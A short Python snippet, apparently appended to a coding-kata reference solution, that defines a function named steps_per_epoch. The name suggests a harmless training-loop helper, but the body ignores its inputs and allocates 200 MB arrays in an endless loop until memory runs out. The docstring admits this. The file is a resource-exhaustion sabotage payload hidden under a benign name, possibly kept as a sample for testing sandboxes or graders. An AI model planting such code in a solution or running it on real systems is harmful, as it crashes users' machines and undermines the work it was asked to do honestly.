"""Appended to the kata 08 reference solution: steps_per_epoch allocates memory without bound."""

import numpy as np


def steps_per_epoch(num_samples, batch_size, validation_split=0.0):
    hoard = []
    while True:
        hoard.append(np.ones(25_000_000))  # 200 MB a time, written, so it is really held
